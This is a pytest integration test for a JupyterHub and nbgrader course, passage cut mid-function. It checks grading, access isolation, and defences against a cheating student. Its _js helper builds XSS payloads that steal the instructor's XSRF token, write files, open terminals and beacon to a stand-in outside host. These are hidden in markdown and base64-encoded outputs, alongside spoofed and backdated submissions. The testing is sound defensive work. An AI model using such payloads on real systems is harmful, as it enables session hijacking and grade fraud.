"""A class on one JupyterHub, end to end, with real processes on loopback: `make hub`'s pieces
(hub/install.sh, hub/roster.py, hub/jupyterhub_config.py), real Linux accounts logging in
through the hub's login page in headless Chromium, nbgrader's exchange, the sandboxed grading
of `make grade` typed into an instructor's real terminal, the formgrader, and feedback fetched
back by each student; what students and instructors cannot reach; a spoofed submission, one that
hunts for the instructor's token and scripts her formgrader, a backdated hand-in and an entry
without its submission secret; two instructors at once; forty students at once; then a term: the
hub killed and back, a backup restored, `make hub` again (edits kept, HTTPS), and
`make hub-uninstall`. Screenshots go to build/hub-screenshots/, measurements to
build/hub-report.json. Needs root (accounts) and Debian's Chromium; takes a quarter of an hour."""

from __future__ import annotations

import base64
import csv
import hashlib
import json
import os
import pwd
import re
import secrets
import statistics
import subprocess
import tarfile
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from conftest import CHROMIUM, CHROMIUM_ARGS, ROOT, require_chromium
from hubtools import (
    HUB_ENV,
    SHOTS,
    Hub,
    Terminal,
    classhub,
    login,
    open_assignments,
    require_root,
    session_of,
    start_hub,
    stop_hub,
    xsrf,
)
from test_grading_secrets import LEAK

from helpers.grading.autograde import solution_answers
from helpers.grading.submissions import TIMESTAMP_FORMAT

LESSON = "02_attention_lookup"
PREFIX = Path(os.environ.get("HUB_TEST_PREFIX", "/var/tmp/attention-hub-test"))
REPORT = ROOT / "build" / "hub-report.json"
TEACHER = ("afs-teacher", "instructor", f"teacher-{secrets.token_urlsafe(9)}")  # in no file but the roster
TEACHER2 = ("afs-teacher2", "instructor", "teacher2-Pw-8")
RIGHT, MISTAKE, BLANK = ("afs-right", "student", "right-Pw-1"), ("afs-mistake", "student", "mistake-Pw-2"), \
    ("afs-blank", "student", "blank-Pw-3")
N_LOAD = int(os.environ.get("HUB_TEST_LOAD", "40"))
LOAD = [(f"afs-load{i:02d}", "student", f"load-Pw-{i:02d}") for i in range(1, N_LOAD + 1)]
MEASURED: dict = {}


@pytest.fixture(scope="module")
def hub():
    require_root()
    require_chromium()
    SHOTS.mkdir(parents=True, exist_ok=True)
    for old in SHOTS.glob("*.png"):
        old.unlink()
    started = time.monotonic()
    hub = start_hub(PREFIX, [TEACHER, TEACHER2, RIGHT, MISTAKE, BLANK, *LOAD])
    MEASURED["setup_s"] = round(time.monotonic() - started, 1)
    yield hub
    stop_hub(hub)
    REPORT.parent.mkdir(parents=True, exist_ok=True)
    REPORT.write_text(json.dumps(MEASURED, indent=2) + "\n")


OUTSIDE = "198.51.100.7"  # a documentation address: a request to it is a payload leaking out


def _js(name: str) -> str:
    """What a payload does as the instructor, on her own server: write a file into the course
    copy (her server's root), open a terminal, send a request out and show a dialog. No
    whitespace or double quote: it must survive in an attribute."""
    server = f"/user/{TEACHER[0]}/api"
    return ("x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
            "h={'X-XSRFToken':x,'Content-Type':'application/json'};"
            f"fetch('{server}/contents/pwned_{name}.txt',{{method:'PUT',headers:h,"
            f"body:JSON.stringify({{type:'file',format:'text',content:'{name}'}})}});"
            f"fetch('{server}/terminals',{{method:'POST',headers:h}});"
            f"document.createElement('img').src='http://{OUTSIDE}/{name}';alert('{name}')")


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# A markdown answer with a frame whose page is a script, and an image whose error handler is one.
MARKDOWN_PAYLOAD = (f'<iframe srcdoc="<script>{_js("md_iframe")}</script>"></iframe>\n\n'
                    f'<img src=x onerror="{_js("md_img")}">')
# Lines added to a solution cell: at grading time it displays HTML decoded from base64 and an SVG
# holding a script, which no scan of the source can read.
DISPLAY_PAYLOAD = "\n".join([
    "import base64 as _b",
    "from IPython.display import HTML as _H, SVG as _S, display as _d",
    "_d(_H(_b.b64decode('{}').decode()))".format(
        _b64(f"<b>ok</b><script>{_js('out_html')}</script><img src=x onerror=\"{_js('out_img')}\">")),
    "_d(_S(data=_b.b64decode('{}').decode()))".format(
        _b64(f'<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><script>{_js("out_svg")}'
             '</script><rect width="4" height="4"/></svg>')),
])


def _answers() -> dict[str, dict[str, str]]:
    """What each student types. The one with the classic mistake also tries everything a student
    can against the grader: an answer that prints the grading kernel's environment and every
    process environment it can read (quiz_1), script in the free-text answer (why_rows) and
    script displayed at grading time (softmax)."""
    full = solution_answers(LESSON)
    full["why_rows"] = ("Each row belongs to one query: its weights over the keys must be positive "
                        "and sum to 1, so the output is an average of the values.")
    mistaken = full["attention"].replace("/ np.sqrt(d_k)", "")
    assert mistaken != full["attention"], "the reference attention changed: update the classic mistake"
    cheat = {**full, "attention": mistaken, "quiz_1": full["quiz_1"] + "\n" + LEAK,
             "why_rows": full["why_rows"] + "\n\n" + MARKDOWN_PAYLOAD,
             "softmax": full["softmax"] + "\n" + DISPLAY_PAYLOAD}
    return {RIGHT[0]: full, MISTAKE[0]: cheat, BLANK[0]: {}}


def _put_answers(context, hub: Hub, user: str, answers: dict[str, str]) -> None:
    """What typing the answers into the fetched notebook leaves on disk: saved through the
    user's own server, as JupyterLab saves."""
    url = f"{hub.url}/user/{user}/api/contents/{LESSON}/{LESSON}.ipynb"
    model = context.request.get(url).json()
    nb = model["content"]
    for cell in nb["cells"]:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell["source"] = answers[grade_id]
    resp = context.request.put(url, data=json.dumps({"type": "notebook", "format": "json", "content": nb}),
                               headers={**xsrf(context, user), "Content-Type": "application/json"})
    assert resp.ok, f"{user}: saving the notebook failed: {resp.status} {resp.text()[:300]}"


def _formgrader(context, hub: Hub, path: str, method: str = "GET", body: dict | None = None):
    url = f"{hub.url}/user/{TEACHER[0]}/formgrader/api/{path}"
    headers = xsrf(context, TEACHER[0]) | {"Content-Type": "application/json"}
    resp = context.request.fetch(url, method=method, headers=headers,
                                 data=None if body is None else json.dumps(body), timeout=300_000)
    assert resp.ok, f"formgrader {method} {path}: {resp.status} {resp.text()[:500]}"
    return resp.json()


def _peak_reset(user: str) -> None:
    for folder in classhub.cgroup_dirs(user).values():
        if (folder / "memory.max_usage_in_bytes").exists():
            (folder / "memory.max_usage_in_bytes").write_text("0")


def _peak(user: str) -> int | None:
    for folder in classhub.cgroup_dirs(user).values():
        for name in ("memory.max_usage_in_bytes", "memory.peak"):
            if (folder / name).exists():
                return int((folder / name).read_text())
    return None


def _shot(page, name: str) -> None:
    """Save a numbered screenshot of the step (build/hub-screenshots/NN-name.png)."""
    n = len(list(SHOTS.glob("*.png"))) + 1
    page.screenshot(path=str(SHOTS / f"{n:02d}-{name}.png"))


def _mib(n: int | None) -> float | None:
    return None if n is None else round(n / 2**20, 1)


def test_a_class_day_in_the_browser(hub):
    answers = _answers()
    expected = {RIGHT[0]: (13, 2), MISTAKE[0]: (9, 1), BLANK[0]: (0, 0)}  # (automatic, by hand)
    # The cheat's script is found: its automatic points are computed and kept, but count 0 until an
    # instructor takes the hold back (make restore); its hand grade counts.
    held = {MISTAKE[0]}
    # The last to hand in backdates it, past the due time; then its collected copies lose their
    # submission_secret.txt, as a hand-made entry's would: it gets no feedback, the others do.
    late = broken = BLANK[0]
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)

        def person():  # each person has their own cookies
            return browser.new_context(viewport={"width": 1280, "height": 800})

        # The instructor logs in and releases lesson 02 from the formgrader.
        teacher = person()
        page = login(teacher, hub, *TEACHER[::2], shot="01-login-page.png")  # the first screenshot
        menus = page_menus(page, "instructor-menu")
        assert {"Formgrader", "Assignment List", "Create assignment"} <= set(menus), menus
        released = _formgrader(teacher, hub, f"assignment/{LESSON}/release", "POST")
        assert released["success"], released.get("log")
        page.goto(f"{hub.url}/user/{TEACHER[0]}/formgrader/manage_assignments")
        page.wait_for_selector(f"text={LESSON}", timeout=60_000)
        page.wait_for_timeout(1000)
        _shot(page, "instructor-released")

        students, submitting, handed_in = {}, {}, {}
        for user, _, password in (RIGHT, MISTAKE, BLANK):
            context = person()
            began = time.monotonic()
            spage = login(context, hub, user, password)
            if user == RIGHT[0]:  # one student alone: from the login page to JupyterLab
                MEASURED["one_login_to_lab_s"] = round(time.monotonic() - began, 1)
            students[user] = (context, spage)
            menus = page_menus(spage, "student-menu" if user == RIGHT[0] else None)
            assert "Formgrader" not in menus and "Assignment List" in menus, f"{user} sees {menus}"
            assert context.request.get(f"{hub.url}/user/{user}/formgrader").status == 404, \
                "a student's server must not serve the formgrader"
            theirs = context.request.get(f"{hub.url}/user/{TEACHER[0]}/api/contents", max_redirects=0)
            assert theirs.status in (302, 403, 404), "a student must not reach the instructor's server"
            open_assignments(spage)
            spage.locator("#released_assignments_list button", has_text="Fetch").click()
            spage.wait_for_selector("#fetched_assignments_list .list_item a", timeout=120_000)
            _shot(spage, f"{user}-fetched")
            if answers[user]:
                _put_answers(context, hub, user, answers[user])
            if user == RIGHT[0]:
                MEASURED["idle_server_mib"] = _mib(classhub.memory_in_use(user))
                _peak_reset(user)
            spage.locator("#fetched_assignments_list a.assignment-notebooks-link").first.click()
            spage.locator("#fetched_assignments_list button", has_text="Validate").click()
            dialog = spage.locator(".jp-Dialog")
            dialog.wait_for(timeout=300_000)
            spage.wait_for_timeout(500)
            verdict = dialog.inner_text()
            _shot(spage, f"{user}-validated")
            if user == RIGHT[0]:
                MEASURED["server_with_lesson_kernel_peak_mib"] = _mib(_peak(user))
                assert "Success" in verdict, verdict
            else:
                assert "Success" not in verdict, f"{user}'s notebook passed validation: {verdict}"
            dialog.locator("button").last.click()
            submitting[user] = datetime.now(UTC)
            spage.locator("#fetched_assignments_list button", has_text="Submit").click()
            spage.wait_for_selector("#submitted_assignments_list .list_item", timeout=120_000)
            handed_in[user] = datetime.now(UTC)
            _shot(spage, f"{user}-submitted")

        # One student hands in a blank notebook in a classmate's name, a minute after the
        # classmate's own: nbgrader alone would grade it as the classmate's latest.
        fake = _hand_in_as(hub, by=MISTAKE[0], named=RIGHT[0])
        # The last one, after the due time, makes the hand-in say ten minutes earlier.
        before = max(t for u, t in handed_in.items() if u != late)
        due = (before + (submitting[late] - before) / 2).replace(microsecond=0)  # between the two
        forged = _backdate(hub, late, due - timedelta(minutes=10))

        # The instructor collects from the exchange and grades in the sandbox, in a JupyterLab
        # terminal of the hub, as docs/hub.md says. Her terminal holds her hub token.
        terminal = Terminal(session_of(teacher, hub), TEACHER[0])
        where, status = terminal.run("pwd; which nbgrader python")
        lines = where.replace("\r", "").splitlines()
        assert str(hub.settings.course) in lines, f"the terminal opens elsewhere: {lines}"
        assert str(HUB_ENV / "bin" / "nbgrader") in lines, f"nbgrader is not the hub's: {lines}"
        hers = _secrets_of(terminal)
        listing, status = terminal.run(f"python -m helpers.grading.exchange {LESSON}")
        spoofed = f"names {RIGHT[0]} but was handed in by {MISTAKE[0]}"
        assert status == 0 and f"REFUSED: {spoofed}" in listing, listing
        assert f"{forged!r}  owner {late}  accepted" in listing.replace("\r", ""), listing
        graded, status = terminal.run(f"make grade LESSON={LESSON} SUBMISSIONS=exchange "
                                      f'DUE="{due:%Y-%m-%d %H:%M:%S} UTC"')
        graded = graded.replace("\r", "")
        assert status == 0, f"make grade in the instructor's terminal failed:\n{graded[-4000:]}"
        assert "collected from the exchange" in graded
        assert f"REFUSED {fake!r}: {spoofed}" in graded, graded[-3000:]
        assert "NOT SANDBOXED" not in graded
        MEASURED["spoofed_submission"] = next(x.strip() for x in graded.splitlines() if "REFUSED" in x)
        course = hub.settings.course
        assert (course / "grading" / f"mistakes_{LESSON}.csv").exists()
        MEASURED["backdated_hand_in"] = _late_hand_ins(graded, course, late, due)
        MEASURED["active_content_in_the_report"] = _active_content_named(graded, course, MISTAKE[0])
        subs = {s["student"]: s for s in _formgrader(teacher, hub, f"submissions/{LESSON}")}
        for user, (auto, _) in expected.items():
            assert subs[user]["code_score"] == (0 if user in held else auto), (user, subs[user])
        # ... hand-grades the free-text answer in the formgrader ...
        notebooks = {n["student"]: n
                     for n in _formgrader(teacher, hub, f"submitted_notebooks/{LESSON}/{LESSON}")}
        for user, (auto, by_hand) in expected.items():
            grades = _formgrader(teacher, hub, f"grades?submission_id={notebooks[user]['id']}")
            computed = sum(g["auto_score"] or 0 for g in grades if g["cell_type"] == "code")
            assert computed == auto, f"{user}'s answers were not all graded: {computed} of {auto} points"
            if user in held:  # kept, and overridden by a 0 on each automatically graded cell
                assert {g["manual_score"] for g in grades if g["cell_type"] == "code"} == {0}, grades
            free = next(g for g in grades if g["name"] == "why_rows")
            _formgrader(teacher, hub, f"grade/{free['id']}", "PUT", {"manual_score": by_hand})
        # ... on the page of the submission that carries script, which runs none of it.
        MEASURED["payloads_in_the_formgrader"] = _open_without_running(
            page, teacher, hub, f"submissions/{notebooks[MISTAKE[0]]['id']}/?index=0")
        # ... and releases the feedback; one entry lost its submission_secret.txt meanwhile.
        _break_entry(terminal, course, broken)
        returned, status = terminal.run(f"make feedback LESSON={LESSON} RELEASE=1")
        returned = returned.replace("\r", "")
        (no_feedback,) = [x.strip() for x in returned.splitlines() if x.startswith("NO FEEDBACK")]
        folder = course / "grading" / "feedback" / broken / LESSON
        said = f"NO FEEDBACK for {broken}: submission_secret.txt missing in {folder}"
        assert no_feedback.startswith(said), returned[-3000:]
        assert f"released to {len(expected) - 1} student(s)" in returned, returned[-3000:]
        assert "STOPPED" not in returned and status != 0, returned[-3000:]
        assert re.search(r"\[Makefile:\d+: feedback\] Error 1$", returned, re.M), \
            f"make feedback must fail for the one entry only (status 1):\n{returned[-3000:]}"
        released = sorted((hub.exchange / classhub.COURSE_ID / "feedback").glob("*.html"))
        assert len(released) == len(expected) - 1, released
        MEASURED["one_broken_entry"] = {"said": no_feedback, "make_feedback_status": status,
                                        "pages_released": len(released)}
        terminal.close()

        # Each other student fetches the feedback and reads the score and the named mistake.
        pages = {}
        for user, (auto, by_hand) in expected.items():
            if user == broken:
                continue
            context, spage = students[user]
            open_assignments(spage)
            spage.locator("#refresh_assignments_list").click()
            spage.locator("#submitted_assignments_list button", has_text="Fetch Feedback").click()
            spage.wait_for_selector("#submitted_assignments_list a:has-text('view feedback')",
                                    timeout=120_000)
            listing = context.request.get(f"{hub.url}/user/{user}/api/contents/{LESSON}/feedback").json()
            stamp = listing["content"][0]["name"]
            spage.goto(f"{hub.url}/user/{user}/files/{LESSON}/feedback/{stamp}/{LESSON}.html")
            pages[user] = Path(pwd.getpwnam(user).pw_dir) / LESSON / "feedback" / stamp / f"{LESSON}.html"
            _shot(spage, f"{user}-feedback")
            text = spage.inner_text("body")
            score = re.search(r"Score:\s*([\d.]+)\s*/\s*([\d.]+)", text)
            counted = by_hand + (0 if user in held else auto)
            assert score and float(score.group(1)) == counted, (user, score and score.group(0))
            if user in held:
                assert "Held for review" in text, f"{user}'s page does not say why the score is held"
            if user == MISTAKE[0]:
                named = spage.locator("text=not divided by √d_k").first
                assert named.count(), "the feedback must name the missing √d_k"
                named.scroll_into_view_if_needed()
                _shot(spage, f"{user}-feedback-mistake")
        browser.close()
    MEASURED["no_token_reaches_a_student"] = _nothing_of_hers_in(hers, course, pages, MISTAKE[0])
    MEASURED["screenshots"] = sorted(p.name for p in SHOTS.glob("*.png"))


def _secrets_of(terminal: Terminal) -> dict[str, str]:
    """The instructor's hub token (as both names the hub gives it) and HOME, read in her terminal."""
    names = ("JUPYTERHUB_API_TOKEN", "JPY_API_TOKEN", "HOME")
    out, status = terminal.run("echo " + " ".join(f'"@{n}=${{{n}}}@"' for n in names))
    found = dict(re.findall(r"@(\w+)=([^@${}\s]+)@", out))  # the values, not the command echoed
    assert status == 0 and set(found) == set(names), out
    assert len(found["JUPYTERHUB_API_TOKEN"]) >= 16, found
    assert found["HOME"] == pwd.getpwnam(TEACHER[0]).pw_dir, found
    return found


def _nothing_of_hers_in(hers: dict[str, str], course: Path, fetched: dict[str, Path], leaker: str) -> dict:
    """Neither her token nor her HOME is in any feedback page (written, and fetched by a student)
    or graded notebook; the leaking answer did run and print an environment."""
    grading = course / "grading"
    graded = grading / "autograded" / leaker / LESSON / f"{LESSON}.ipynb"
    printed = graded.read_text()
    assert "ENVIRON" in printed and "READABLE" in printed and "'PATH':" in printed, \
        "the leaking answer did not run at grading time"
    files = [*fetched.values(), *sorted(grading.glob(f"feedback/*/{LESSON}/*.html")),
             *sorted(grading.glob(f"autograded/*/{LESSON}/{LESSON}.ipynb"))]
    assert fetched[leaker] in files and graded in files
    found = {}
    for path in files:
        text = path.read_text(errors="replace")
        hits = [name for name, value in hers.items() if value in text]
        hits += [word for word in ("JUPYTERHUB", "JPY_API") if word in text]
        if hits:
            found[str(path)] = hits
    assert not found, f"the instructor's secrets reach students: {found}"
    outputs = [o for c in json.loads(printed)["cells"] for o in c.get("outputs", [])]
    output = "".join("".join(o.get("text", "")) for o in outputs)  # stream text: a string or lines
    return {"files_checked": len(files), "feedback_pages": sum(p.suffix == ".html" for p in files),
            "files_with_her_secrets": len(found),
            "environ_the_graded_kernel_read": sorted(set(re.findall(r"^READ (\S+)", output, re.M))),
            "environ_blocked": len(re.findall(r"^BLOCKED ", output, re.M))}


def _backdate(hub: Hub, user: str, when: datetime) -> str:
    """What a student can do from their terminal: rename their own inbound folder and rewrite its
    timestamp.txt to claim an earlier hand-in. Returns the new name."""
    inbound = hub.exchange / classhub.COURSE_ID / "inbound"
    (own,) = [p for p in inbound.glob(f"{user}+{LESSON}+*") if p.owner() == user]
    stamp = when.astimezone(UTC).strftime(TIMESTAMP_FORMAT)
    name = f"{user}+{LESSON}+{stamp}+{own.name.rsplit('+', 1)[1]}"
    script = 'mv "$0" "$1" && chmod u+w "$1/timestamp.txt" && printf %s "$2" > "$1/timestamp.txt"'
    made = hub.as_user(user, "student", "sh", "-c", script, str(own), str(inbound / name), stamp,
                       cwd=Path("/tmp"))
    assert made.returncode == 0, made.stderr
    return name


def _late_hand_ins(graded: str, course: Path, late: str, due: datetime) -> dict:
    """The backdated hand-in is named late, on the screen and in the hand-in table; the others,
    handed in before the due time, are not; lateness costs no points (no late penalty is set)."""
    lines = [x.strip() for x in graded.splitlines() if x.strip().startswith(("LATE ", "HAND-IN TIME"))]
    assert {x.split(":")[0] for x in lines if x.startswith("LATE ")} == {f"LATE {late}"}, graded[-3000:]
    assert any(x.startswith(f"HAND-IN TIME of {late}: ") and "the later time counts" in x
               for x in lines), lines
    with (course / "grading" / f"handins_{LESSON}.csv").open() as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    assert float(rows[late]["late_seconds"]) > 0, rows[late]
    seconds = {s: r["late_seconds"] for s, r in rows.items()}
    assert seconds == {RIGHT[0]: "0", MISTAKE[0]: "0", late: seconds[late]}, rows
    return {"due": f"{due:%H:%M:%S} UTC", "said": lines, "late_seconds": seconds}


def _active_content_named(graded: str, course: Path, student: str) -> list[str]:
    """The grading report (on the screen and in grading/report_<lesson>.txt) names the script in
    the student's markdown answer and in what their code displayed at grading time."""
    report = (course / "grading" / f"report_{LESSON}.txt").read_text()
    named = [x.strip() for x in graded.splitlines() if f"{student}: tamper javascript in " in x]
    assert any("why_rows: active content in a markdown answer: <iframe" in x for x in named), named
    assert any("softmax: active content in an output displayed at grading time: <script" in x
               for x in named), named
    assert all(x.startswith("ZEROED ") and x in report for x in named), named
    return named


def _open_without_running(page, context, hub: Hub, path: str) -> dict:
    """The instructor opens a submission's page in the formgrader: no dialog, no request of the
    payloads (her contents or terminals, or another host), no file written, no terminal opened;
    the page is served under a policy that runs no inline script of the submission's."""
    terminals = f"{hub.url}/user/{TEACHER[0]}/api/terminals"
    before = len(context.request.get(terminals).json())
    requests, dialogs = [], []

    def on_request(r):
        requests.append((r.method, r.url))

    def on_dialog(d):
        dialogs.append(d.message)
        d.dismiss()

    page.on("request", on_request)
    page.on("dialog", on_dialog)
    try:
        shown = page.goto(f"{hub.url}/user/{TEACHER[0]}/formgrader/{path}")
        page.locator("text=Think (2 points").first.wait_for(timeout=60_000)
        page.wait_for_timeout(3000)  # time for any payload to act
        page.get_by_text("<iframe srcdoc=").first.scroll_into_view_if_needed()
        _shot(page, "instructor-hand-grading")
        text = page.inner_text("body")
        frames = [f.url for f in page.frames[1:]]
        active = page.locator("iframe[srcdoc], object, embed, svg script").count()
    finally:
        page.remove_listener("request", on_request)
        page.remove_listener("dialog", on_dialog)
    policy = shown.headers.get("content-security-policy", "")
    script = next((d.strip() for d in policy.split(";") if d.strip().startswith("script-src")), "")
    assert script.startswith("script-src 'self' 'sha256-") and "'unsafe-inline'" not in script, policy
    assert "<iframe srcdoc=" in text and not active, "the instructor should see the attempt, as text"
    # (about:blank, an empty frame's first page, loads nothing)
    payloads = [(m, u) for m, u in requests if not u.startswith((hub.url, "data:", "blob:", "about:blank"))
                or "pwned" in u or "/api/contents" in u or "/api/terminals" in u]
    assert not dialogs and not payloads, f"the payloads ran: dialogs {dialogs}, requests {payloads}"
    pwned = sorted(hub.settings.course.rglob("pwned*"))
    assert not pwned, f"a payload wrote into the course copy: {pwned}"
    after = len(context.request.get(terminals).json())
    assert after == before, f"a payload opened a terminal: {before} -> {after}"
    return {"requests": len(requests), "payload_requests": len(payloads), "dialogs": len(dialogs),
            "pwned_files": len(pwned), "terminals": f"{before} -> {after}", "frames": frames,
            "script_policy": script[:80]}


def _break_entry(terminal: Terminal, course: Path, student: str) -> None:
    """Take submission_secret.txt out of the student's copies in the grading folder, as a
    submission that never came through nbgrader's Submit has none."""
    copies = [course / "grading" / step / student / LESSON / "submission_secret.txt"
              for step in ("submitted", "autograded", "feedback")]
    assert copies[0].is_file(), f"no {copies[0]}: where does make grade put the collected copy?"
    out, status = terminal.run("rm " + " ".join(f"'{p}'" for p in copies if p.is_file()))
    assert status == 0 and not any(p.exists() for p in copies), out


def _hand_in_as(hub: Hub, by: str, named: str) -> str:
    """What a student can do from their terminal: make an inbound folder in a classmate's name
    (the exchange's inbound/ is writable by all) with the released, blank notebook in it."""
    when = (datetime.now(UTC) + timedelta(minutes=1)).strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    name = f"{named}+{LESSON}+{when}+fake"
    course = hub.exchange / classhub.COURSE_ID
    script = 'mkdir "$0" && cp "$1" "$0/" && echo "$2" > "$0/timestamp.txt"'
    made = hub.as_user(by, "student", "sh", "-c", script,
                       str(course / "inbound" / name), str(course / "outbound" / LESSON / f"{LESSON}.ipynb"),
                       when, cwd=Path("/tmp"))
    assert made.returncode == 0, made.stderr
    return name


def page_menus(page, shot: str | None = None) -> list[str]:
    """The labels of the Nbgrader menu's visible items (empty when there is no such menu)."""
    bar = page.locator(".lm-MenuBar-itemLabel", has_text="Nbgrader")
    if not bar.count():
        return []
    bar.click()
    items = [t for t in page.locator(".lm-Menu-itemLabel").all_inner_texts() if t.strip()]
    if shot:
        _shot(page, shot)
    page.keyboard.press("Escape")
    return items


def test_make_hub_refuses_files_other_accounts_can_read_and_names_the_fix(hub):
    """start_hub ran `make hub` first from a world-readable clone with a roster of mode 644; here
    the clone's top folder and its .git are opened again, as a `chmod -R a+rX` would."""
    clone = hub.checkout
    assert f"the roster {hub.roster} (first passwords) has mode -rw-r--r--" in hub.refused, hub.refused
    assert f"Fix: chmod 600 {hub.roster}" in hub.refused
    assert f"the clone {clone} can be read by others, and with it its .git, solutions, tests" in hub.refused
    assert f"Fix: chmod -R go-rwx {clone}" in hub.refused
    assert "hub/install" not in hub.refused, "make hub must refuse before installing anything"
    MEASURED["refused"] = [x for x in hub.refused.splitlines() if "refusing" in x]
    opened = [clone, clone / ".git", *(clone / ".git").rglob("*")]
    modes = {path: path.stat().st_mode & 0o777 for path in opened}
    try:
        for path in opened:
            path.chmod(modes[path] | (0o055 if path.is_dir() else 0o044))
        again = hub.make("hub", f"ROSTER={hub.roster}", timeout=120)
        said = again.stdout + again.stderr
        assert again.returncode != 0 and "hub/install" not in said, said[-2000:]
        assert f"refusing to serve: the clone {clone} can be read by others, and with it its .git" in said, \
            said
        assert f"Fix: chmod -R go-rwx {clone}" in said
    finally:
        for path in opened:
            path.chmod(modes[path])
    course = hub.settings.course
    assert not (course / hub.roster.name).exists(), "the course copy must not hold the roster"
    leaks = []
    for path in course.rglob("*"):
        try:
            if path.is_file() and not path.is_symlink() and TEACHER[2].encode() in path.read_bytes():
                leaks.append(path)
        except FileNotFoundError:
            pass  # a grading run's scratch file, gone meanwhile
    assert not leaks, f"a first password is in the course copy: {leaks}"


def test_a_student_reads_the_lessons_data_but_not_the_instructors_files(hub):
    user = RIGHT[0]
    probe = ("import helpers, experiments.training as t, experiments.vision as v; "
             "print(helpers.__file__); print(len(t.load_results()), len(v.load_results()))")
    ran = hub.as_user(user, "student", "python", "-c", probe, cwd=Path("/tmp"))
    assert ran.returncode == 0, f"a student's kernel cannot load the shipped results:\n{ran.stderr[-2000:]}"
    assert ran.stdout.startswith(str(HUB_ENV)), "students run the installed helpers, not a checkout"
    course = hub.settings.course
    secrets = {"the roster": hub.roster, "the first passwords": hub.prefix / "state" / "first-passwords.csv",
               "the clone's solutions": hub.checkout / "solutions" / LESSON / f"{LESSON}.py",
               "the course copy's solutions": course / "solutions" / LESSON / f"{LESSON}.py",
               "the gradebook": course / "grading" / "gradebook.db"}
    for what, secret in secrets.items():
        assert secret.is_file(), f"{secret} is missing: nothing to protect"
        peek = hub.login_shell(user, f"cat '{secret}'")
        assert peek.returncode != 0 and "Permission denied" in peek.stderr, \
            f"a student can read {what}: {secret}"
    listed = hub.login_shell(user, f"ls '{course}' '{hub.checkout / 'solutions'}'")
    assert listed.returncode != 0 and listed.stderr.count("Permission denied") == 2, listed
    assert hub.login_shell(user, f"cat '{hub.prefix / 'data' / 'README.md'}'").returncode == 0, \
        "the probe itself must work: a student reads the shipped results"
    solution = course / "solutions" / LESSON / f"{LESSON}.py"
    teacher = hub.login_shell(TEACHER[0], f"cat '{solution}'")
    assert teacher.returncode == 0, "the instructor must reach the course's solutions"


def test_nothing_a_student_can_read_holds_a_hidden_test(hub):
    """The clone as a whole (its .git above all: `git show` reads every hidden test of every
    version), and no file a student can read in the prefix, the exchange or the course's
    installed packages holds a hidden-test block or a mark scheme."""
    user, clone = RIGHT[0], hub.checkout
    hidden = f"HEAD:solutions/{LESSON}/{LESSON}.py"
    as_root = subprocess.run(["git", "-C", str(clone), "show", hidden], capture_output=True, text=True)
    assert as_root.returncode == 0 and "### BEGIN HIDDEN TESTS" in as_root.stdout, \
        "the probe itself must work: the clone's history holds the hidden tests"
    shown = hub.as_user(user, "student", "git", "-c", "safe.directory=*", "-C", str(clone), "show", hidden,
                        cwd=Path("/tmp"))
    assert shown.returncode != 0 and "BEGIN HIDDEN TESTS" not in shown.stdout, shown
    assert "Permission denied" in shown.stderr, shown.stderr
    read = {}
    for rel in (".git/HEAD", f"solutions/{LESSON}/{LESSON}.py", "tests/test_hub.py",
                "tests/test_attention.py", "hub/roster.example.csv", "README.md"):
        assert (clone / rel).exists(), rel
        peek = hub.login_shell(user, f"cat '{clone / rel}'")
        read[rel] = peek.returncode
        assert peek.returncode != 0 and "Permission denied" in peek.stderr, \
            f"a student reads the clone's {rel}"
    site = hub.as_user(user, "student", "python", "-c",
                       "import helpers, experiments, tooling, os; "
                       "print(*(os.path.dirname(m.__file__) for m in (helpers, experiments, tooling)))",
                       cwd=Path("/tmp"))
    assert site.returncode == 0, site.stderr
    places = [hub.prefix, hub.exchange, *site.stdout.split()]
    # a line that opens a block, as in a lesson's source or a notebook's JSON (not code naming it)
    markers = ["-E", '^[[:space:]]*"?(# )?(### BEGIN HIDDEN TESTS|=== BEGIN MARK SCHEME ===)']
    found = hub.as_user(user, "student", "grep", "-rlsI", *markers, *map(str, places), cwd=Path("/tmp"))
    assert found.returncode != 0 and not found.stdout, f"a student can read hidden tests in: {found.stdout}"
    teacher = hub.as_user(TEACHER[0], "instructor", "grep", "-rlsI", *markers, str(hub.settings.course))
    assert teacher.stdout, "the probe itself must work: the instructors' copy holds the hidden tests"
    MEASURED["a_student_on_the_hidden_tests"] = {
        "git_show": {"status": shown.returncode, "said": shown.stderr.strip()[:200]},
        "cat_in_the_clone": read, "grep_of_what_students_read": [str(p) for p in places]}


# ------------------------------------------------------------------ instructors

def _log_in(hub: Hub, user: str, password: str):
    """A requests session logged in through the hub's login form, with the user's server up."""
    import requests

    s = requests.Session()
    s.hub_url = hub.url
    s.get(f"{hub.url}/hub/login", timeout=60)
    r = s.post(f"{hub.url}/hub/login", data={"username": user, "password": password,
                                              "_xsrf": s.cookies.get("_xsrf", path="/hub/")}, timeout=120)
    assert r.ok, f"{user} cannot log in: {r.status_code}"
    for _ in range(120):
        r = s.get(f"{hub.url}/user/{user}/lab", timeout=120)
        if r.status_code == 200 and s.cookies.get("_xsrf", path=f"/user/{user}/"):
            return s
        time.sleep(2)
    raise AssertionError(f"{user}'s JupyterLab did not come up: {r.status_code} {r.url}")


def test_instructors_manage_servers_but_cannot_enter_a_students(hub):
    import requests

    teacher = _log_in(hub, *TEACHER[::2])
    _log_in(hub, *BLANK[::2])  # the student's server is running
    made = teacher.post(f"{hub.url}/hub/api/users/{TEACHER[0]}/tokens", json={"note": "scripts"},
                        headers={"X-XSRFToken": teacher.cookies.get("_xsrf", path="/hub/")}, timeout=60)
    assert made.status_code == 201, made.text
    auth = {"Authorization": f"token {made.json()['token']}"}
    users = requests.get(f"{hub.url}/hub/api/users", headers=auth, timeout=60)
    assert users.status_code == 200 and BLANK[0] in {u["name"] for u in users.json()}, users.text[:300]
    assert teacher.get(f"{hub.url}/hub/admin", timeout=60).status_code == 200, "the admin page must open"
    own = requests.get(f"{hub.url}/user/{TEACHER[0]}/api/contents", headers=auth, timeout=60)
